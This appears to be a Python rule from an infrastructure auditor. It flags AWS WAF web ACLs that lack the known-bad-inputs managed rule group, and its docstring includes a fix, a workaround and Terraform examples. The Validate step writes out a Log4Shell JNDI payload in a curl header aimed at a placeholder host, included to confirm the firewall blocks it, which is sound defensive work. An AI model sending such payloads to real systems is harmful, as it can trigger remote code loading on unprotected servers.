"""A web ACL protects this resource, and does not know exploits such as Log4Shell.

## Why it matters
The resource is taken for protected. Its web ACL lacks `AWSManagedRulesKnownBadInputsRuleSet`, so the exploits that are tried against
every site pass through to it.

## Five whys
1. Why did the exploit reach the service behind the firewall? Its web ACL has no rule for it.
2. Why not? The ACL was made for something else (rates, addresses) and associated here as well.

## Fix now
Add the managed group to that web ACL: the finding names it. It acts within a minute for everything that the ACL protects.

## Workaround
Associate another web ACL that has the group: `aws wafv2 associate-web-acl --web-acl-arn ARN --resource-arn RESOURCE` (for CloudFront:
`web_acl_id`).

## Prevent
One web ACL module with the AWS groups, used everywhere.

## Validate
`curl -s -o /dev/null -w '%{http_code}' -H 'X-Test: ${jndi:ldap://example.com/a}' https://NAME/` prints 403.

## Bad
```hcl
resource "aws_wafv2_web_acl" "rates" {
  name  = "rates"
  scope = "REGIONAL"
}

resource "aws_lb" "web" { # finding
  name    = "web"
  subnets = ["subnet-0123456789abcdef0", "subnet-0fedcba9876543210"]
}

resource "aws_wafv2_web_acl_association" "web" {
  resource_arn = aws_lb.web.arn
  web_acl_arn  = aws_wafv2_web_acl.rates.arn
}
```

## Good
```hcl
resource "aws_wafv2_web_acl" "site" {
  name  = "site"
  scope = "CLOUDFRONT"

  rule {
    name     = "known-bad-inputs"
    priority = 1

    override_action {
      none {}
    }

    statement {
      managed_rule_group_statement {
        name        = "AWSManagedRulesKnownBadInputsRuleSet"
        vendor_name = "AWS"
      }
    }
  }
}

resource "aws_cloudfront_distribution" "site" {
  enabled    = true
  web_acl_id = aws_wafv2_web_acl.site.arn
}
```
"""

from collections.abc import Iterator

from auditor.sdk import Confidence, Fail, Graph, Node, Resource, Severity, rule
from auditor.views.web_acl import KNOWN_BAD_INPUTS, PROTECTED, acls_of, managed_groups


@rule(
    target=PROTECTED,
    severity=Severity.LOW,
    confidence=Confidence.FIRM,
    aliases="CKV2_AWS_47 CKV2_AWS_76 CKV2_AWS_77 CKV2_AWS_78",
)
def check(protected: Node, resource: Resource, graph: Graph) -> Iterator[Fail]:
    for acl in acls_of(resource, graph):
        if not any(managed_groups(acl.body, KNOWN_BAD_INPUTS)):
            message = f"{acl.address.text} protects it without {KNOWN_BAD_INPUTS}"
            yield Fail(protected, message, expected=f"a web ACL with {KNOWN_BAD_INPUTS}", related=(acl.body,))
